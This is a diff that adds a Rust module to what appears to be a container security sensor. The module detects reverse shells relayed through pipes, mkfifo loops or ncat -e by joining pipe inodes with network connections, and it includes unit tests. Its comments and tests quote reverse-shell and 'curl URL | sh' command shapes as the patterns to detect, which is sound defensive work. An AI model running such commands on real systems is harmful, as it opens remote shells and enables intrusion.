@@ -1,0 +1,341 @@
+//! Processes relayed to the network through pipes. A reverse shell needs no socket on its own
+//! stdio: a pipeline (`nc HOST PORT < f | sh -i > f 2>&1`), a `mkfifo` loop, or a tool that
+//! connects a program through pipes (ncat's `-e`, socat) hands its input and output to
+//! another process that holds the connection.
+//!
+//! The kernel reports the pipe or FIFO inode on each of fds 0-2 at exec (both ends of a pipe
+//! share it). This index joins the ends within a container: a process whose stdout or stderr
+//! reaches, through one pipe, the stdin of a process with a network connection, while its own
+//! stdin is a pipe or FIFO too, is relayed ([`Via::Pipeline`]). Joined when the second of the
+//! two facts arrives (the exec or the connection, in either order), once per process.
+//!
+//! A relaying tool keeps its ends of the pipes on fds above 2, which the kernel does not
+//! report: a process whose stdin and stdout are pipes no other process has on its stdio, and
+//! whose parent holds a connection, is relayed by its parent ([`Via::Parent`]). CGI servers
+//! and sshd running commands look the same; the rules tell them apart.
+
+use std::collections::HashMap;
+
+use sensor_proto::{self as pb, event::Body};
+
+use super::Enricher;
+use crate::types::{BootNs, CgroupId, Pid};
+
+/// One end of a pipe on a process's stdio: the process and the fd (0-2).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+struct End {
+    pid: Pid,
+    fd: u8,
+}
+
+/// A pipe within a container (inode numbers of pipefs and of a container's FIFOs do not
+/// collide within one cgroup in practice; across containers they may).
+type PipeKey = (CgroupId, u64);
+
+/// How a relayed process's output reaches the relay.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Via {
+    /// Through a pipe or FIFO on the relay's stdin (a pipeline, a mkfifo loop).
+    Pipeline,
+    /// Through pipes only its parent, the relay, holds (a tool's exec mode).
+    Parent,
+}
+
+/// Which process's fds lead to which other process.
+#[derive(Debug, PartialEq, Eq)]
+pub struct Relayed {
+    /// The relayed process (its stdout or stderr goes to `relay`).
+    pub pid: Pid,
+    /// Its fds (1, 2) that reach the relay.
+    pub fds: Vec<i32>,
+    /// The process holding the connection.
+    pub relay: Pid,
+    pub via: Via,
+}
+
+/// Pipes on the stdio of live processes, by inode, and each process's own.
+#[derive(Default)]
+pub struct PipeIndex {
+    ends: HashMap<PipeKey, Vec<End>>,
+    by_pid: HashMap<Pid, (CgroupId, [u64; 3])>,
+}
+
+impl PipeIndex {
+    /// `pid` exec'd with these pipe inodes on fds 0-2 (0: not a pipe); replaces what it had.
+    pub fn set(&mut self, pid: Pid, cgroup: CgroupId, pipes: [u64; 3]) {
+        self.remove(pid);
+        if pipes.iter().all(|&p| p == 0) {
+            return;
+        }
+        for (fd, &ino) in pipes.iter().enumerate() {
+            if ino != 0 {
+                let end = End { pid, fd: fd as u8 };
+                self.ends.entry((cgroup, ino)).or_default().push(end);
+            }
+        }
+        self.by_pid.insert(pid, (cgroup, pipes));
+    }
+
+    /// `pid` exited.
+    pub fn remove(&mut self, pid: Pid) {
+        let Some((cgroup, pipes)) = self.by_pid.remove(&pid) else {
+            return;
+        };
+        for ino in pipes.into_iter().filter(|&i| i != 0) {
+            if let Some(ends) = self.ends.get_mut(&(cgroup, ino)) {
+                ends.retain(|e| e.pid != pid);
+                if ends.is_empty() {
+                    self.ends.remove(&(cgroup, ino));
+                }
+            }
+        }
+    }
+
+    /// Keeps the processes `live` holds (the process table's sweep found the others gone,
+    /// their exit records lost).
+    pub fn retain(&mut self, live: impl Fn(Pid) -> bool) {
+        let gone: Vec<Pid> = self.by_pid.keys().copied().filter(|&p| !live(p)).collect();
+        for pid in gone {
+            self.remove(pid);
+        }
+    }
+
+    /// Processes whose stdio pipes are tracked.
+    #[cfg(test)]
+    fn len(&self) -> usize {
+        self.by_pid.len()
+    }
+
+    /// `pid` (child of `parent`) as the relayed side: its stdin is a pipe and its stdout or
+    /// stderr reaches the stdin of a process `connected` says holds a connection, or only its
+    /// connected parent holds the other ends.
+    pub fn relayed_by(
+        &self,
+        pid: Pid,
+        parent: Pid,
+        connected: impl Fn(Pid) -> bool,
+    ) -> Option<Relayed> {
+        let (cgroup, pipes) = self.by_pid.get(&pid)?;
+        if pipes[0] == 0 {
+            return None;
+        }
+        let private = |ino: u64| {
+            self.ends
+                .get(&(*cgroup, ino))
+                .is_none_or(|ends| ends.iter().all(|e| e.pid == pid))
+        };
+        if pipes[1] != 0 && private(pipes[0]) && private(pipes[1]) && connected(parent) {
+            return Some(Relayed {
+                pid,
+                fds: [1, 2]
+                    .into_iter()
+                    .filter(|&fd| pipes[fd] == pipes[1])
+                    .map(|fd| fd as i32)
+                    .collect(),
+                relay: parent,
+                via: Via::Parent,
+            });
+        }
+        let mut found: Option<Relayed> = None;
+        for fd in [1u8, 2] {
+            let ino = pipes[fd as usize];
+            if ino == 0 {
+                continue;
+            }
+            let reader = self.ends.get(&(*cgroup, ino)).and_then(|ends| {
+                ends.iter()
+                    .find(|e| e.pid != pid && e.fd == 0 && connected(e.pid))
+            });
+            if let Some(reader) = reader {
+                let r = found.get_or_insert(Relayed {
+                    pid,
+                    fds: Vec::new(),
+                    relay: reader.pid,
+                    via: Via::Pipeline,
+                });
+                r.fds.push(fd as i32);
+            }
+        }
+        found
+    }
+
+    /// `relay` just got a connection: the processes it relays, through a pipeline (whose
+    /// stdout or stderr reaches its stdin through a pipe, and whose stdin is a pipe) or as
+    /// their parent (`parent_of` says whose child a process is). A relaying parent connects
+    /// before it starts the child, but the two facts come from different rings, so either
+    /// may arrive first.
+    pub fn relayed_through(&self, relay: Pid, parent_of: impl Fn(Pid) -> Pid) -> Vec<Relayed> {
+        let connected = |p: Pid| p == relay;
+        let mut out: Vec<Relayed> = self
+            .by_pid
+            .keys()
+            .filter(|&&p| p != relay && parent_of(p) == relay)
+            .filter_map(|&child| self.relayed_by(child, relay, connected))
+            .collect();
+        if let Some((cgroup, pipes)) = self.by_pid.get(&relay)
+            && pipes[0] != 0
+            && let Some(ends) = self.ends.get(&(*cgroup, pipes[0]))
+        {
+            let mut writers: Vec<Pid> = ends
+                .iter()
+                .filter(|e| e.pid != relay && e.fd != 0)
+                .map(|e| e.pid)
+                .filter(|p| !out.iter().any(|r| r.pid == *p))
+                .collect();
+            writers.sort();
+            writers.dedup();
+            out.extend(
+                writers
+                    .into_iter()
+                    .filter_map(|p| self.relayed_by(p, Pid(0), connected)),
+            );
+        }
+        out
+    }
+}
+
+impl Enricher {
+    /// After `pid` exec'd: relayed by a process that already holds a connection?
+    pub(super) fn relay_at_exec(
+        &mut self,
+        pid: Pid,
+        parent: Pid,
+        at: BootNs,
+        out: &mut Vec<pb::Event>,
+    ) {
+        let procs = &self.procs;
+        let connected = |p: Pid| procs.get(p).is_some_and(|i| i.connected.is_some());
+        if let Some(r) = self.pipes.relayed_by(pid, parent, connected) {
+            self.relay_event(r, at, out);
+        }
+    }
+
+    /// After `pid` connected to or accepted `peer`: the processes it relays through pipes.
+    pub(super) fn relay_at_connection(
+        &mut self,
+        pid: Pid,
+        peer: pb::Endpoint,
+        at: BootNs,
+        out: &mut Vec<pb::Event>,
+    ) {
+        let Some(info) = self.procs.get_mut(pid) else {
+            return;
+        };
+        info.connected = Some(peer);
+        let procs = &self.procs;
+        let parent_of = |p: Pid| procs.get(p).map_or(Pid(0), |i| i.ppid);
+        for r in self.pipes.relayed_through(pid, parent_of) {
+            self.relay_event(r, at, out);
+        }
+    }
+
+    /// One `stdio_relay` event per relayed process, about that process.
+    fn relay_event(&mut self, r: Relayed, at: BootNs, out: &mut Vec<pb::Event>) {
+        let Some(relay) = self.procs.get(r.relay).cloned() else {
+            return;
+        };
+        let Some(info) = self.procs.get_mut(r.pid).filter(|i| !i.relayed) else {
+            return;
+        };
+        info.relayed = true;
+        let info = info.clone();
+        let body = Body::StdioRelay(pb::StdioRelay {
+            via: match r.via {
+                Via::Pipeline => "pipeline",
+                Via::Parent => "parent",
+            }
+            .into(),
+            fds: r.fds,
+            relay_pid: relay.pid.0,
+            relay_exe: relay.exe,
+            relay_comm: relay.comm,
+            peer: relay.connected,
+        });
+        self.process_event(&info, info.pid.0, at, body, out);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const C: CgroupId = CgroupId(7);
+
+    /// `cat f | sh -i 2>&1 | nc HOST PORT > f`: cat's stdout is pipe 10, sh reads 10 and
+    /// writes 11 on fds 1 and 2, nc reads 11 and writes the FIFO 12.
+    fn pipeline() -> PipeIndex {
+        let mut index = PipeIndex::default();
+        index.set(Pid(1), C, [0, 10, 0]);
+        index.set(Pid(2), C, [10, 11, 11]);
+        index.set(Pid(3), C, [11, 12, 0]);
+        index
+    }
+
+    #[test]
+    fn a_shell_whose_output_reaches_a_connected_process_is_relayed_either_way_round() {
+        let index = pipeline();
+        // The connection came first: found at the shell's exec.
+        let at_exec = index.relayed_by(Pid(2), Pid(9), |p| p == Pid(3));
+        let want = Relayed {
+            pid: Pid(2),
+            fds: vec![1, 2],
+            relay: Pid(3),
+            via: Via::Pipeline,
+        };
+        assert_eq!(at_exec.as_ref(), Some(&want));
+        // The exec came first: found at nc's connection.
+        assert_eq!(index.relayed_through(Pid(3), |_| Pid(9)), [want]);
+        // cat is upstream of the shell, not a relay of its output.
+        assert!(index.relayed_through(Pid(1), |_| Pid(9)).is_empty());
+    }
+
+    #[test]
+    fn no_relay_without_a_connection_a_piped_stdin_or_in_another_container() {
+        let index = pipeline();
+        assert_eq!(index.relayed_by(Pid(2), Pid(9), |_| false), None);
+        // `curl URL | sh`: the shell's input comes from the network, its output does not go
+        // there.
+        let mut curl_sh = PipeIndex::default();
+        curl_sh.set(Pid(1), C, [0, 20, 0]);
+        curl_sh.set(Pid(2), C, [20, 0, 0]);
+        assert!(curl_sh.relayed_through(Pid(1), |_| Pid(9)).is_empty());
+        assert_eq!(curl_sh.relayed_by(Pid(2), Pid(9), |p| p == Pid(1)), None);
+        // `sh script | nc logs 514`: output to the network, but stdin is no pipe.
+        let mut logs = PipeIndex::default();
+        logs.set(Pid(1), C, [0, 30, 0]);
+        logs.set(Pid(2), C, [30, 0, 0]);
+        assert!(logs.relayed_through(Pid(2), |_| Pid(9)).is_empty());
+        // The same inode in another container is another pipe.
+        let mut other = pipeline();
+        other.set(Pid(3), CgroupId(8), [11, 12, 0]);
+        assert_eq!(other.relayed_by(Pid(2), Pid(9), |p| p == Pid(3)), None);
+    }
+
+    #[test]
+    fn a_shell_on_pipes_only_its_connected_parent_holds_is_relayed_by_the_parent() {
+        // ncat -e: the parent connects, then runs the shell on two pipes of its own.
+        let mut index = PipeIndex::default();
+        index.set(Pid(2), C, [40, 41, 41]);
+        let r = index.relayed_by(Pid(2), Pid(1), |p| p == Pid(1)).unwrap();
+        assert_eq!((r.relay, r.via, r.fds), (Pid(1), Via::Parent, vec![1, 2]));
+        assert_eq!(index.relayed_by(Pid(2), Pid(1), |_| false), None);
+        // The connection reported after the child's exec finds it too.
+        let found = index.relayed_through(Pid(1), |p| if p == Pid(2) { Pid(1) } else { Pid(9) });
+        assert_eq!(found.len(), 1, "{found:?}");
+        // A pipe another process has on its stdio is not the parent's alone.
+        index.set(Pid(3), C, [0, 40, 0]);
+        assert_eq!(index.relayed_by(Pid(2), Pid(1), |p| p == Pid(1)), None);
+    }
+
+    #[test]
+    fn exits_and_re_execs_forget_the_old_ends() {
+        let mut index = pipeline();
+        index.remove(Pid(3));
+        assert_eq!(index.relayed_by(Pid(2), Pid(9), |p| p == Pid(3)), None);
+        index.set(Pid(2), C, [0, 0, 0]);
+        assert_eq!(index.len(), 1);
+        index.retain(|p| p != Pid(1));
+        assert_eq!(index.len(), 0);
+        assert!(index.ends.is_empty());
+    }
+}
